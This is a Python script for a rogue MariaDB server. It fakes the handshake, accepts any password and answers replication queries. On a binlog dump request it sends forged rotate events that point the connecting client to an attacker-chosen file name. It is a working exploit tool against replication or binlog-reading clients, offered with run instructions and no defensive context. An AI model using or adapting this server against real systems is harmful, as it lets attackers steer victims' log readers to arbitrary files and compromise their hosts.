"""A member that an attacker has: it answers what a reader of its log asks, with names of its own.

A server of the protocol's least: TLS, any password, a few questions, and a log of one event. Run as
``python rogue.py PORT CERTIFICATE KEY NAME``; NAME is what it calls the file that it goes on to.
"""

from __future__ import annotations

import socket
import ssl
import struct
import sys
import threading
from contextlib import suppress

_LOG = "rogue.000001"
_CAPABILITIES = 0x003FFFDF  # 4.1 protocol, TLS, plugin authentication; no EOF deprecation
_ROTATE, _FORMAT = 4, 15


def _event(kind: int, body: bytes, flags: int = 0) -> bytes:
    return struct.pack("<IBIIIH", 0, kind, 7, 19 + len(body), 0, flags) + body


def _described() -> bytes:
    lengths = bytearray(171)
    lengths[_ROTATE - 1] = 8
    body = struct.pack("<H50sIB", 4, b"10.11.0-MariaDB", 0, 19) + lengths + b"\0" + bytes(4)
    return _event(_FORMAT, body)


def _text(text: str) -> bytes:
    return bytes([len(text)]) + text.encode()


class Session:
    """One client."""

    def __init__(self, plain: socket.socket, context: ssl.SSLContext, name: str) -> None:
        self.wire, self.context, self.name, self.number = plain, context, name, 0

    def send(self, body: bytes) -> None:
        self.wire.sendall(struct.pack("<I", len(body))[:3] + bytes([self.number]) + body)
        self.number = (self.number + 1) % 256

    def receive(self) -> bytes:
        head = self._exactly(4)
        self.number = (head[3] + 1) % 256
        return self._exactly(int.from_bytes(head[:3], "little"))

    def _exactly(self, size: int) -> bytes:
        found = b""
        while len(found) < size:
            piece = self.wire.recv(size - len(found))
            if not piece:
                raise ConnectionError
            found += piece
        return found

    def serve(self) -> None:
        """Let it log in and answer until it goes."""
        salt = b"A" * 8 + b"\0"
        self.send(
            b"\x0a5.5.5-10.11.0-MariaDB\0"
            + struct.pack("<I", 1)
            + salt
            + struct.pack("<HBHHB6xI", _CAPABILITIES & 0xFFFF, 45, 2, _CAPABILITIES >> 16, 21, 0)
            + b"B" * 12
            + b"\0mysql_native_password\0"
        )
        self.receive()
        self.wire = self.context.wrap_socket(self.wire, server_side=True)
        self.receive()
        self.done()
        while True:
            asked = self.receive()
            if asked[0] == 1:
                return
            if asked[0] == 0x12:
                self.dump()
            elif asked[0] == 3:
                self.answer(asked[1:].decode("latin-1").upper())
            else:
                self.done()

    def done(self) -> None:
        self.send(b"\0\0\0\x02\0\0\0")

    def rows(self, names: list[str], row: list[str]) -> None:
        self.send(bytes([len(names)]))
        for name in names:
            column = b"".join(_text(part) for part in ("def", "", "", "", name, name))
            self.send(column + struct.pack("<BHIBHBH", 12, 45, 255, 253, 0, 0, 0))
        self.send(b"\xfe\0\0\x02\0")
        self.send(b"".join(_text(part) for part in row))
        self.send(b"\xfe\0\0\x02\0")

    def answer(self, query: str) -> None:
        if query.startswith("SHOW BINARY LOGS"):
            self.rows(["Log_name", "File_size"], [_LOG, "256"])
        elif query.startswith("SHOW MASTER STATUS"):
            self.rows(["File", "Position"], [_LOG, "256"])
        elif "VERSION" in query:
            self.rows(["VERSION()"], ["10.11.0-MariaDB"])
        elif query.startswith(("SELECT", "SHOW")):
            self.rows(["a"], ["CRC32" if "CHECKSUM" in query else "1"])
        else:
            self.done()

    def dump(self) -> None:
        """Send the log: an event of its own, then what tells that it goes on in another file."""
        for event in (
            _event(_ROTATE, struct.pack("<Q", 4) + _LOG.encode(), 0x20),
            _described(),
            _event(_ROTATE, struct.pack("<Q", 4) + self.name.encode()),
            _event(_ROTATE, struct.pack("<Q", 4) + self.name.encode(), 0x20),
            _described(),
        ):
            self.send(b"\0" + event)
        threading.Event().wait(20)


def serve(port: int, certificate: str, key: str, name: str, address: str = "0.0.0.0") -> None:
    """Serve until the process is ended."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    with socket.create_server((address, port)) as ear:
        while True:
            plain, _ = ear.accept()
            threading.Thread(target=_one, args=(plain, context, name), daemon=True).start()


def _one(plain: socket.socket, context: ssl.SSLContext, name: str) -> None:
    with suppress(OSError, ConnectionError), plain:
        Session(plain, context, name).serve()


if __name__ == "__main__":
    serve(int(sys.argv[1]), *sys.argv[2:5])
